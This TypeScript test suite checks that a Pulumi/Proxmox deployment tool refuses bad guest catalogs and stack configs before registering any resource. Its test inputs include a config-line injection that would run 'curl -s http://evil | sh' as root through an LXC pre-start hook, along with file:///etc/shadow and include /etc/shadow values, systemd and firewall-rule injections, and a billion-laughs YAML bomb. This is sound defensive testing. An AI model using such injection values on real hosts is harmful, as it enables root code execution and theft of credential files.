// Hostile and careless catalogs and stack configs, class by class: each is refused by the real program (index.ts
// under the mock engine) with located problems, before a single resource is registered.
import { strict as assert } from "assert";
import * as path from "path";
import * as pulumi from "@pulumi/pulumi";
import { firewallAddressProblem, portListProblem } from "../catalog/net";
import { catalogCopy, recordDev } from "./helpers";

type Edits = Record<string, (s: string) => string>;

const replacing = (file: string, ...pairs: [string, string][]): Edits => ({
    [file]: (s) =>
        pairs.reduce((text, [from, to]) => {
            assert.ok(text.includes(from), `${file} does not contain ${JSON.stringify(from)}`);
            return text.replace(from, to);
        }, s),
});

/** Runs the program on a copy of the catalog with edits; returns its error's lines, with the temp dir cut off. */
const refusal = async (edits: Edits, config: Record<string, unknown> = {}): Promise<string[]> => {
    const dir = catalogCopy(edits);
    const rec = await recordDev({ "phoenix:catalog": dir, ...config });
    assert.ok(rec.error instanceof pulumi.RunError, `expected a RunError, got ${rec.error}`);
    assert.equal(rec.registrations.length, 0, "no resource may be registered");
    return rec.error.message.split(`${path.dirname(dir)}/`).join("").split("\n");
};

const catalogLines = (n: number, ...lines: string[]): string[] => [`The guest catalog has ${n} problem${n === 1 ? "" : "s"}:`, ...lines];

describe("validation: every bad input refused before anything is registered", () => {
    describe("config-line injection", () => {
        it("a line break in apparmorProfile (it would add `lxc.hook.pre-start: <command>`, run as root on the node)", async () => {
            assert.deepEqual(await refusal(replacing("900-copy-base.yaml", ["apparmorProfile: unconfined", `apparmorProfile: "unconfined\\nlxc.hook.pre-start: /bin/sh -c 'curl -s http://evil | sh'"`])), catalogLines(1,
                `guests/900-copy-base.yaml:20:18 apparmorProfile: expected an AppArmor profile name such as unconfined (letters, digits and _.+-), received "unconfined\\nlxc.hook.pre-start: /bin/sh -c 'curl -s http://evil | sh'"`));
        });

        it("a second line in a raw lxc line, and keys Proxmox does not keep or Phoenix writes itself", async () => {
            assert.deepEqual(await refusal(replacing("101-nginx-phoenix.yaml", ['  - "lxc.mount.auto: sys:rw"', '  - "lxc.mount.auto: sys:rw\\nlxc.hook.pre-start: /tmp/x"\n  - "lxc.idmap: u 0 100000 65536"\n  - "lxc.rootfs.options: rw"\n  - "lxc.aa_profile: unconfined"'])), catalogLines(4,
                `guests/101-nginx-phoenix.yaml:23:5 rawLxc[0]: expected one raw line such as "lxc.mount.auto: sys:rw" (no control characters), received "lxc.mount.auto: sys:rw\\nlxc.hook.pre-start: /tmp/x"`,
                "guests/101-nginx-phoenix.yaml:24:5 rawLxc[1]: set lxc.idmap with idMaps, not as a raw line",
                "guests/101-nginx-phoenix.yaml:25:5 rawLxc[2]: lxc.rootfs.options is not a key Proxmox keeps in a container config (pve-container Config.pm: deprecated, unsupported or misspelled)",
                "guests/101-nginx-phoenix.yaml:26:5 rawLxc[3]: lxc.aa_profile is not a key Proxmox keeps in a container config (pve-container Config.pm: deprecated, unsupported or misspelled)"));
        });

        it("a line break in NFS options (a second fstab entry: any server, any mount point), a blank in a mount point", async () => {
            assert.deepEqual(await refusal(replacing("1001-portainer.yaml", ["mountPoint: /persistent-storage }", `mountPoint: "/persistent storage", options: "defaults\\n10.6.6.6:/ / nfs rw 0 0" }`])), catalogLines(2,
                `guests/1001-portainer.yaml:21:80 nfsVolumes[0].mountPoint: expected a mount point: an absolute path such as /mnt/data, without . or .. segments, //, a trailing / or characters other than letters, digits and _.+@-, received "/persistent storage"`,
                `guests/1001-portainer.yaml:21:112 nfsVolumes[0].options: expected comma-separated mount options such as defaults,_netdev,nofail, received "defaults\\n10.6.6.6:/ / nfs rw 0 0"`));
        });

        it("a comma in a bind mount's host path (Proxmox reads mp0 as comma-separated options), '..' in a container path", async () => {
            assert.deepEqual(await refusal(replacing("103-step-ca.yaml", ["hostPath: /mnt/pve/quickOS/lxc-persistent-data/103/ssl, containerPath: /etc/step-ca,", "hostPath: \"/mnt/pve/quickOS/ssl,mp=/etc\", containerPath: /etc/step-ca/../../root,"])), catalogLines(2,
                `guests/103-step-ca.yaml:23:17 bindMounts[0].hostPath: expected a host directory: an absolute path such as /mnt/data, without . or .. segments, //, a trailing / or characters other than letters, digits and _.+@-, received "/mnt/pve/quickOS/ssl,mp=/etc"`,
                `guests/103-step-ca.yaml:23:64 bindMounts[0].containerPath: expected a mount point: an absolute path such as /mnt/data, without . or .. segments, //, a trailing / or characters other than letters, digits and _.+@-, received "/etc/step-ca/../../root"`));
        });

        it("script parameters the script would write into a file: a line break in one, a separator of its file in another", async () => {
            const lines = await refusal({
                ...replacing("103-step-ca.yaml", ["caName: ThinkHeads Internal CA", 'caName: "ThinkHeads CA\\nExecStartPre=/bin/sh"'], ['caAddress: ":9000"', 'caAddress: ":99999"']),
                ...replacing("101-nginx-phoenix.yaml", ["upstreamUrl: https://10.0.0.12:443 #", 'upstreamUrl: "https://10.0.0.12:443; include /etc/shadow" #']),
            });
            assert.deepEqual(lines, catalogLines(3,
                `guests/101-nginx-phoenix.yaml:41:18 application.params.upstreamUrl: expected an https:// URL such as https://10.0.0.10:9000 (apps/nginx_gateway.sh UPSTREAM_URL, format https-url), received "https://10.0.0.12:443; include /etc/shadow"`,
                `guests/103-step-ca.yaml:28:15 features[1].params.caName: expected one line of text without control characters (step_ca.sh CA_NAME, format text), received "ThinkHeads CA\\nExecStartPre=/bin/sh"`,
                `guests/103-step-ca.yaml:30:18 features[1].params.caAddress: expected [host]:port with a port 1..65535, such as :9000 (step_ca.sh CA_ADDRESS, format listen-address), received ":99999"`));
        });

        it("a parameter Phoenix derives from the catalog (it would be replaced silently), a privileged reason on an unprivileged container", async () => {
            const lines = await refusal({
                ...replacing("102-traefik-internal.yaml", ["  - { name: traefik, caFrom: 103 }", '  - { name: traefik, caFrom: 103, params: { caUrl: "https://evil.example:9000" } }']),
                ...replacing("101-nginx-phoenix.yaml", ["swapMb: 512", "swapMb: 512\nprivilegedReason: just because"]),
            });
            assert.deepEqual(lines, catalogLines(2,
                "guests/101-nginx-phoenix.yaml:12:1 privilegedReason: only a privileged container (unprivileged: false) has a reason to be privileged; remove it",
                "guests/102-traefik-internal.yaml:26:45 features[3].params.caUrl: Phoenix derives CA_URL from the catalog for traefik.sh; remove this parameter"));
        });

        it("a line break in a firewall comment (it would end the rule line of /etc/pve/firewall/<id>.fw), control characters in a description", async () => {
            assert.deepEqual(await refusal({
                ...replacing("900-copy-base.yaml", ["comment: Allow ICMP from internal network }", 'comment: "ok\\nIN ACCEPT -p tcp" }']),
                ...replacing("101-nginx-phoenix.yaml", ["description: Nginx gateway in front of Traefik", 'description: "Nginx\\u001b[2J gateway"']),
            }), catalogLines(2,
                `guests/101-nginx-phoenix.yaml:6:14 description: expected a description: text without control characters other than tab and newline, received "Nginx\\u001b[2J gateway"`,
                `guests/900-copy-base.yaml:25:78 firewall.rules[0].comment: expected a comment: one line without control characters or surrounding blanks, received "ok\\nIN ACCEPT -p tcp"`));
        });
    });

    describe("half deploys: every stack config key is checked before the first registration", () => {
        it("names the guest, the field and the command for a missing cloud-init password, a misspelled secret key and missing VM keys", async () => {
            const lines = await refusal({
                ...replacing("1001-portainer.yaml", ["  user: phoenix_user\n", "  user: phoenix_user\n  passwordSecret: portainerVmPassword\n"]),
                ...replacing("103-step-ca.yaml", ["CA_PASSWORD: stepCaPassword", "CA_PASSWORD: stepCaPasword"]),
            }, { "phoenix:sshPublicKeys": [] });
            assert.deepEqual(lines, [
                "The stack config lacks 3 values this stack needs (nothing was registered):",
                "guests/103-step-ca.yaml:33:20 features[1].secrets.CA_PASSWORD: guest 103 reads the secret stack config key phoenix:stepCaPasword, which is not set; fix: pulumi config set --secret stepCaPasword <value>",
                "guests/1001-portainer.yaml:20:19 cloudInit.passwordSecret: guest 1001 reads the secret stack config key phoenix:portainerVmPassword, which is not set; fix: pulumi config set --secret portainerVmPassword <value>",
                `stack config phoenix:sshPublicKeys: expected a list of SSH public keys for the VMs' cloud-init user, one line each; the selected VMs 9000, 1001, 1002 need it; fix: pulumi config set --secret --path 'sshPublicKeys[0]' "$(cat ~/.ssh/id_ed25519.pub)"`,
            ]);
        });

        it("checks only what the selection reads: containers need no VM password and no VM keys", async () => {
            const dir = catalogCopy(replacing("1001-portainer.yaml", ["  user: phoenix_user\n", "  user: phoenix_user\n  passwordSecret: portainerVmPassword\n"]));
            const rec = await recordDev({ "phoenix:catalog": dir, "phoenix:guests": [101], "phoenix:sshPublicKeys": [] });
            assert.equal(rec.error, undefined, String(rec.error));
            assert.ok(rec.registrations.length > 0);
        });

        it("a key with a line break is no key: one key line each", async () => {
            const lines = await refusal({}, { "phoenix:sshPublicKeys": ["ssh-ed25519 AAAA a\nssh-ed25519 BBBB b"] });
            assert.match(lines[1], /^stack config phoenix:sshPublicKeys: expected a list of SSH public keys for the VMs' cloud-init user, one line each;/);
        });
    });

    describe("YAML failures are located catalog problems, never a bare exception", () => {
        it("an alias bomb (billion laughs)", async () => {
            const bomb = 'lol1: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nlol2: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nlol3: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nlol4: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n';
            assert.deepEqual(await refusal({ "101-nginx-phoenix.yaml": (s) => s + bomb }), catalogLines(1,
                `guests/101-nginx-phoenix.yaml:58:11 (yaml): aliases expand to more than 100 copies; a catalog file may not expand that far (a "billion laughs" file would need gigabytes)`));
        });

        it("an alias to an anchor that does not exist", async () => {
            assert.deepEqual(await refusal(replacing("101-nginx-phoenix.yaml", ["cores: 4", "cores: *fourCores"])), catalogLines(1,
                "guests/101-nginx-phoenix.yaml:9:8 (yaml): alias *fourCores refers to no anchor &fourCores defined before it"));
        });
    });

    describe("accepted nonsense is refused", () => {
        it("sizes, memory and timeouts no node can satisfy", async () => {
            assert.deepEqual(await refusal({
                ...replacing("1001-portainer.yaml", ["diskGb: 32", "diskGb: 10000000000000"], ["memoryMb: 8192", "memoryMb: 1125899906842624"], ["interval: 6", "interval: 1000000000000"], ["cloneFrom: 9000", "cloneFrom: 9000\nagentTimeoutSeconds: -5"]),
                ...replacing("101-nginx-phoenix.yaml", ["swapMb: 512", "swapMb: 1e300"], ["startup: { order: 2, upDelay: 5, downDelay: 5 }", "startup: { order: 2, upDelay: 100000, downDelay: 5 }\nwaitForNetworkSeconds: 1000000000000"]),
                ...replacing("102-traefik-internal.yaml", ["cores: 2", "cores: 2.5"]),
            }), catalogLines(8,
                "guests/1001-portainer.yaml:8:22 agentTimeoutSeconds: expected seconds, a whole number 1..1500, received -5",
                "guests/1001-portainer.yaml:11:11 memoryMb: expected memory in MiB, a whole number 16..4194304, received 1125899906842624",
                "guests/1001-portainer.yaml:12:9 diskGb: expected a disk size in GiB, a whole number 1..65536, received 10000000000000",
                "guests/1001-portainer.yaml:32:13 healthCheck.interval: expected seconds between attempts, a whole number 1..600, received 1000000000000",
                "guests/101-nginx-phoenix.yaml:11:9 swapMb: expected swap in MiB, a whole number 0..4194304, received 1e+300",
                "guests/101-nginx-phoenix.yaml:19:31 startup.upDelay: expected seconds, a whole number 0..3600, received 100000",
                "guests/101-nginx-phoenix.yaml:20:24 waitForNetworkSeconds: expected seconds, a whole number 1..1500, received 1000000000000",
                "guests/102-traefik-internal.yaml:9:8 cores: expected CPU cores, a whole number 1..512, received 2.5"));
        });

        it("a health check that would outlast its step", async () => {
            assert.deepEqual(await refusal(replacing("1001-portainer.yaml", ["retries: 10", "retries: 100"], ["interval: 6", "interval: 600"])), catalogLines(1,
                "guests/1001-portainer.yaml:30:12 healthCheck.retries: 100 attempts 600s apart wait 60000s; keep retries × interval within 1500s (the step's 30-minute limit)"));
        });

        it("addresses, ports and protocols Proxmox's parsers refuse", async () => {
            assert.deepEqual(await refusal({
                ...replacing("1001-portainer.yaml", ["server: 10.0.0.13", "server: 10.0.0.999"], ['dest: 10.0.0.153, proto: tcp, dport: "443"', 'dest: not an address, proto: tcpp, dport: "99999"'], ['dest: 10.0.0.102, proto: tcp, dport: "9001"', 'dest: 10.0.0.102, proto: icmp, dport: "9001"']),
                ...replacing("101-nginx-phoenix.yaml",
                    ['source: 10.0.0.111, proto: tcp, dport: "443"', 'source: 10.0.0.999, proto: tcp, dport: "443:80"'],
                    ['source: 10.0.0.13, proto: tcp, dport: "443"', 'source: 10.0.0.13/24, proto: tcp, dport: "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16"'],
                    ['dest: 10.0.0.12, proto: tcp, dport: "80"', 'dest: "10.0.0.1-10.0.0.9,10.0.0.20", proto: tcp, dport: "80"'],
                    ['source: 10.0.0.10, proto: tcp, dport: "80,443"', 'source: 10.0.0.10, proto: tcp, macro: ssh, iface: net1'],
                    ['dest: 10.0.0.10, proto: tcp, dport: "9000"', 'dest: "fe80::1", proto: icmp'],
                ),
            }), catalogLines(13,
                `guests/1001-portainer.yaml:21:15 nfsVolumes[0].server: expected an IPv4 address or a DNS name (whose last label is not all digits), received "10.0.0.999"`,
                `guests/1001-portainer.yaml:35:42 firewall.rules[0].dest: expected a destination as Proxmox reads it: an IPv4/IPv6 address, CIDR or range, a comma list of addresses or CIDRs, an alias name or +ipset, received "not an address"`,
                `guests/1001-portainer.yaml:35:65 firewall.rules[0].proto: expected a protocol name of /etc/protocols (tcp, udp, icmp, icmpv6, ...) or its number, quoted, received "tcpp"`,
                `guests/1001-portainer.yaml:35:78 firewall.rules[0].dport: expected ports 1..65535 such as "22", "80,443" or "8000:8100", received "99999"`,
                "guests/1001-portainer.yaml:36:74 firewall.rules[1].dport: needs proto tcp, udp, udplite, dccp or sctp (icmp has no ports)",
                `guests/101-nginx-phoenix.yaml:46:43 firewall.rules[0].source: expected a source as Proxmox reads it: an IPv4/IPv6 address, CIDR or range, a comma list of addresses or CIDRs, an alias name or +ipset, received "10.0.0.999"`,
                `guests/101-nginx-phoenix.yaml:46:74 firewall.rules[0].dport: backwards range "443:80"; did you mean "80:443"?`,
                `guests/101-nginx-phoenix.yaml:47:43 firewall.rules[1].source: "10.0.0.13/24" has host bits set after the /24 prefix (the network is 10.0.0.0/24); Proxmox refuses it`,
                "guests/101-nginx-phoenix.yaml:47:76 firewall.rules[1].dport: too many entries: 16 port numbers (a range counts two), Proxmox allows 15",
                "guests/101-nginx-phoenix.yaml:48:42 firewall.rules[2].dest: a range cannot be part of a list",
                `guests/101-nginx-phoenix.yaml:49:73 firewall.rules[3].macro: expected a Proxmox firewall macro such as SSH, HTTP or DNS, spelled as Proxmox does, received "ssh"`,
                `guests/101-nginx-phoenix.yaml:49:85 firewall.rules[3].iface: expected net0, the one interface Phoenix gives a guest, received "net1"`,
                "guests/101-nginx-phoenix.yaml:50:42 firewall.rules[4].dest: IPv6 here, but proto is IPv4; Proxmox refuses mixed IPv4/IPv6 in one rule"));
        });

        it("a 10 MB description, paths with .., storage and CPU types that would break a config line, a file:// URL", async () => {
            const huge = "x".repeat(10 * 1024 * 1024);
            assert.deepEqual(await refusal({
                ...replacing("101-nginx-phoenix.yaml", ["description: Nginx gateway in front of Traefik", `description: ${huge}`], ["containerPath: /var/log/nginx", "containerPath: /var/log/../../etc"]),
                ...replacing("1001-portainer.yaml", ["cores: 4", "cores: 4\nstorage: local,mp=/etc\ncpuType: host,flags=+aes\nimage: { url: \"file:///etc/shadow\", fileName: shadow.img }"]),
            }), catalogLines(5,
                `guests/1001-portainer.yaml:10:10 storage: expected a Proxmox storage ID: a letter, then letters, digits and _.-, ending in a letter or digit, received "local,mp=/etc"`,
                `guests/1001-portainer.yaml:11:10 cpuType: expected a QEMU CPU type such as x86-64-v2-AES, host or custom-<name>, received "host,flags=+aes"`,
                `guests/1001-portainer.yaml:12:15 image.url: expected an http:// or https:// URL without blanks or quotes, received "file:///etc/shadow"`,
                `guests/101-nginx-phoenix.yaml:6:14 description: expected a description, at most 8192 characters, received "${"x".repeat(79)}... (10485760 characters)`,
                `guests/101-nginx-phoenix.yaml:32:79 bindMounts[0].containerPath: expected a mount point: an absolute path such as /mnt/data, without . or .. segments, //, a trailing / or characters other than letters, digits and _.+@-, received "/var/log/../../etc"`));
        });
    });

    describe("no cascading noise", () => {
        it("a file that does not parse is reported once; references to its guest are not reported as unknown", async () => {
            assert.deepEqual(await refusal(replacing("900-copy-base.yaml", ["cores: 2", "cores: [2"])), catalogLines(1,
                "guests/900-copy-base.yaml:11:1 (yaml): Flow sequence in block collection must be sufficiently indented and end with a ]"));
        });

        it(".inf, -.inf and .nan are shown as YAML writes them", async () => {
            assert.deepEqual(await refusal(replacing("101-nginx-phoenix.yaml", ["cores: 4", "cores: .inf"], ["swapMb: 512", "swapMb: -.inf"], ["diskGb: 32", "diskGb: .nan"])), catalogLines(3,
                "guests/101-nginx-phoenix.yaml:9:8 cores: expected CPU cores, a whole number 1..512, received .inf",
                "guests/101-nginx-phoenix.yaml:11:9 swapMb: expected swap in MiB, a whole number 0..4194304, received -.inf",
                "guests/101-nginx-phoenix.yaml:12:9 diskGb: expected a disk size in GiB, a whole number 1..65536, received .nan"));
        });
    });
});

describe("firewall addresses and ports as pve-firewall parses them (Firewall.pm parse_address_list, parse_port_name_number_or_range)", () => {
    const accepted = [
        "10.0.0.1", "10.0.0.0/24", "0.0.0.0/0", "10.0.0.1-10.0.0.9", "10.0.0.1,10.0.0.2,10.0.1.0/24", "fe80::/64", "2001:db8::1",
        "::ffff:10.0.0.1", "2001:db8::1-2001:db8::ff", "+trusted", "+dc/trusted", "+guest/web-servers", "+sdn/vnet1", "office",
        "dc/office", "guest/my_alias", `+${"a".repeat(64)}`, "a".repeat(64),
    ];
    const refused: [string, RegExp][] = [
        ["10.0.0.999", /syntax/], ["not an address", /syntax/], ["10.0.0", /syntax/], ["010.0.0.1", /syntax/], ["10.0.0.1,", /syntax/],
        [",10.0.0.1", /syntax/], ["10.0.0.1 ", /syntax/], ["10.0.0.1\n10.0.0.2", /syntax/], ["a", /syntax/], ["+a", /syntax/],
        ["+../etc", /syntax/], ["1:2:3:4:5:6:7:8:9", /syntax/], ["10.0.0.0/33", /prefix length above 32/],
        ["10.0.0.5/24", /host bits set after the \/24 prefix \(the network is 10\.0\.0\.0\/24\)/], ["fe80::1/64", /host bits/],
        ["10.0.0.9-10.0.0.1", /runs backwards/], ["10.0.0.1-2001:db8::1", /syntax/],
        ["10.0.0.1,2001:db8::1", /mixes IPv4 and IPv6/], ["10.0.0.1-10.0.0.2,10.0.0.5", /a range cannot be part of a list/],
        ["::1:2:3:4:5:6:7", /not an IPv4\/IPv6 address/], [`+${"a".repeat(65)}`, /ipset name longer than 64/], ["a".repeat(65), /alias name longer than 64/],
    ];
    const { FIREWALL_ADDRESS_RE } = require("../catalog/net") as typeof import("../catalog/net");
    const verdict = (s: string): string | undefined => (FIREWALL_ADDRESS_RE.test(s) ? firewallAddressProblem(s) : "syntax");

    for (const s of accepted) it(`accepts ${JSON.stringify(s.length > 20 ? `${s.slice(0, 12)}...` : s)}`, () => assert.equal(verdict(s), undefined));
    for (const [s, why] of refused) it(`refuses ${JSON.stringify(s.length > 20 ? `${s.slice(0, 12)}...` : s)}`, () => assert.match(verdict(s) ?? "accepted", why));

    it("port lists: 15 numbers at most, a range counting two, ranges upwards", () => {
        assert.equal(portListProblem("22"), undefined);
        assert.equal(portListProblem("1:100,200,300:400"), undefined);
        assert.equal(portListProblem(Array.from({ length: 15 }, (_, i) => i + 1).join(",")), undefined);
        assert.match(portListProblem(Array.from({ length: 16 }, (_, i) => i + 1).join(",")) ?? "", /16 port numbers/);
        assert.match(portListProblem("1:2,3:4,5:6,7:8,9:10,11:12,13:14,15:16") ?? "", /16 port numbers/);
        assert.match(portListProblem("100:1") ?? "", /backwards range "100:1"; did you mean "1:100"\?/);
    });
});
